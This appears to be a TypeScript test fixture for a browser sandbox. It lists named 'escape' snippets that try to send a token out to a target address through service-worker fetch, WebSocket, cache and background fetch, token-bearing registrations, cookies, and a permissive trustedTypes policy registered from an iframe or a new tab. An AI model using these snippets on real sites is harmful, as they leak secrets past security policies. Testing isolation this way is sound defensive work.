import { address, type Escape, element, quietly, wait } from '../escape'

const socket = '(target.replace("http", "ws") + "/x?" + token)'
const withCookie = (code: string) => `document.cookie = 'z=' + token; ${code}`
const elsewhereInScope = `scope: '/scope-' + Math.random() + '/'`
/** In a realm without the app's own rule for scripts, which makes itself one. */
const past = (realm: string) => `const { navigator, trustedTypes } = ${realm}
      trustedTypes.createPolicy('default', { createScriptURL: (url) => url })
      await navigator.serviceWorker.register('/sw.js', { updateViaCache: 'none', ${elsewhereInScope} })`

/** What goes by the service worker, or around it. */
export const service: readonly Escape[] = [
  { name: 'fetch inside the service worker', short: true, where: 'service worker', code: `await fetch(${address}, ${quietly})` },
  {
    name: 'fetch with a body inside the service worker',
    where: 'service worker',
    code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', body: token })`,
  },
  { name: 'WebSocket inside the service worker', short: true, where: 'service worker', code: `new WebSocket(${socket})` },
  { name: 'Cache.add inside the service worker', where: 'service worker', code: `await (await caches.open('z')).add(${address})` },
  {
    name: 'background fetch',
    alone: true,
    code: `await (await navigator.serviceWorker.ready).backgroundFetch.fetch('id' + token, [${address}], { title: 't' })`,
  },
  {
    name: 'background fetch inside the service worker',
    alone: true,
    where: 'service worker',
    code: `await registration.backgroundFetch.fetch('id' + token, [${address}], { title: 't' })`,
  },
  {
    name: 'address of a service worker',
    only: 'home',
    code: `await navigator.serviceWorker.register('/sw.js?' + token, { ${elsewhereInScope} })`,
  },
  {
    name: 'cookie on the update of the service worker',
    only: 'home',
    alone: true,
    code: withCookie('await (await navigator.serviceWorker.ready).update(); location.reload()'),
  },
  {
    name: 'cookie on a second service worker',
    only: 'home',
    alone: true,
    code: withCookie(`await navigator.serviceWorker.register('/sw.js', { updateViaCache: 'all', ${elsewhereInScope} })`),
  },
  {
    name: 'cookie on a second service worker, past the cache',
    only: 'home',
    alone: true,
    code: withCookie(`await navigator.serviceWorker.register('/sw.js', { updateViaCache: 'none', ${elsewhereInScope} })`),
  },
  {
    name: 'cookie on a second service worker from an empty frame',
    only: 'home',
    alone: true,
    code: withCookie(past(`${element('iframe')}.contentWindow`)),
  },
  {
    name: 'cookie on a second service worker from a tab with an error of the own host',
    only: 'home',
    alone: true,
    code: withCookie(`const tab = window.open('/no-such-page'); ${wait(1500)}; ${past('tab')}`),
  },
  {
    name: 'cookie on a file of the app asked for anew',
    only: 'home',
    alone: true,
    code: withCookie(`new Image().src = '/icons/no-such-icon.png'
      await fetch('/', { cache: 'reload' }).catch(() => {})
      location.reload()`),
  },
]
